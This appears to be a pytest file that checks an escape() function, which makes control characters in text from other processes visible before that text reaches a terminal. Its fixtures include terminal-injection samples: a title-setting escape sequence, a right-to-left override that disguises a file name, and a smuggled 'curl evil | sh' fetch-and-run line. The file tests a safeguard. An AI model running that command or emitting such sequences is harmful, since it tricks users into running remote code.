"""escape(): text from other processes reaches a terminal with its control characters visible."""

import pytest

from portfix._text import describe, escape

# Cell-independent: escape() on strings.
pytestmark = pytest.mark.cell_independent


@pytest.mark.parametrize("raw, shown", [
    ("python -m http.server 5000", "python -m http.server 5000"),
    ("caf\u00e9 \u65e5\u672c", "caf\u00e9 \u65e5\u672c"),
    ("\x1b]0;owned\x07", "\\x1b]0;owned\\x07"),
    ("a\nTo fix: curl evil | sh", "a\\nTo fix: curl evil | sh"),
    ("\r\x1b[2K", "\\r\\x1b[2K"),
    ("tab\there", "tab\\there"),
    ("\x7f\x9b", "\\x7f\\x9b"),
    ("\u202egnp.exe", "\\u202egnp.exe"),
    ("bad\udcffbyte", "bad\\udcffbyte"),
    ("\U000e0001tag", "\\U000e0001tag"),
    ("", ""),
])
def test_escape(raw, shown):
    assert escape(raw) == shown


def test_none_stays_none():
    assert escape(None) is None


def test_every_escaped_result_is_printable():
    everything = "".join(chr(code) for code in range(0, 0x3000))
    shown = escape(everything)
    assert shown.isprintable()
    assert "\x1b" not in shown and "\n" not in shown


def test_describe_is_one_escaped_line_naming_the_type():
    assert describe(ConnectionResetError(104, "reset")) == "ConnectionResetError: [Errno 104] reset"
    assert describe(ImportError("no module \x1b[2Jnamed\nx")) == "ImportError: no module \\x1b[2Jnamed\\nx"
